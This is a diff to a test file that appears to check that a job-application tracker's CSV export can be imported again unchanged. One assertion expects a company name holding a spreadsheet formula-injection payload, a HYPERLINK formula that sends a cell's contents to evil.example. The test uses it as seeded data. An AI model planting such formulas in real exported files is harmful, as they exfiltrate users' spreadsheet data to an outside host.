@@ -8,9 +8,11 @@ import { getUser, type SessionUser } from '@/lib/auth/user';
 import { GET as exportCsv } from '@/app/(app)/applications/export/route';
 import { GET as exportJson } from '@/app/(app)/settings/export/route';
 import { setupTestDatabase } from '../support/database';
-import { seedPerson } from '../import/import-helpers';
+import { importStep } from '@/app/(app)/applications/import/actions';
+import { applicationsOf, csvFile, previewForm, previewIn, redirectOf, seedPerson, uploadForm } from '../import/import-helpers';
 
 vi.mock('@/lib/auth/user', () => ({ getUser: vi.fn(), requireUser: vi.fn() }));
+vi.mock('next/cache', () => ({ revalidatePath: vi.fn() }));
 
 const database = setupTestDatabase();
 let ada: SessionUser;
@@ -98,6 +100,23 @@ describe('CSV export of applications', () => {
     const response = await exportCsv();
     expect(response.status).toBe(401);
     expect(response.headers.get('content-disposition')).toBeNull();
+  });
+});
+
+describe('an exported file imported again', () => {
+  it('maps every column by itself and gives back the applications as they were, formulas included', async () => {
+    await seedSearches();
+    const exported = Buffer.from(await (await exportCsv()).arrayBuffer());
+    vi.mocked(getUser).mockResolvedValue(grace);
+    const preview = previewIn(await importStep({ ok: false }, uploadForm(csvFile(exported))));
+    expect(preview.mapping).toEqual(['company', 'position', 'stage', 'appliedOn', 'jobUrl', 'location', 'source', 'notes', 'skip', 'skip', 'skip', 'skip']);
+    expect(preview.problems).toEqual([]);
+    await redirectOf(importStep({ ok: false }, previewForm(preview, 'import')));
+    const strip = ({ company, position, stage, appliedOn, jobUrl, notes }: Awaited<ReturnType<typeof applicationsOf>>[number]) => ({ company, position, stage, appliedOn, jobUrl, notes });
+    const byCompany = (a: { company: string }, b: { company: string }) => a.company.localeCompare(b.company);
+    const theirs = (await applicationsOf(database.db, grace.id)).filter((a) => a.position !== 'Admiral').map(strip).sort(byCompany);
+    expect(theirs).toEqual((await applicationsOf(database.db, ada.id)).map(strip).sort(byCompany));
+    expect(theirs.map((a) => a.company)).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
   });
 });
 
